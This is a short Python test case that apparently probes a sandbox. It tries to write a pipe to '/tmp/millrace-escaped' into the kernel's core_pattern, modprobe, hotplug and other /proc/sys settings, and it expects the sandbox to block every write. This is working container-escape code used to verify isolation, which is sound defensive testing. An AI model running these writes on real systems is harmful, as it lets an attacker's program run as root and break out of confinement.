# Tries: to have the kernel start a program of its own outside, as the handler of core dumps.
# Ends: held
import os


def handler(pd):
    written = []
    for name in (
        "kernel/core_pattern",
        "kernel/modprobe",
        "kernel/hotplug",
        "vm/overcommit_memory",
        "net/ipv4/ip_forward",
    ):
        try:
            with open(f"/proc/sys/{name}", "w") as file:
                file.write("|/tmp/millrace-escaped")
            written.append(name)
        except OSError:
            pass
    return "held" if not written else written
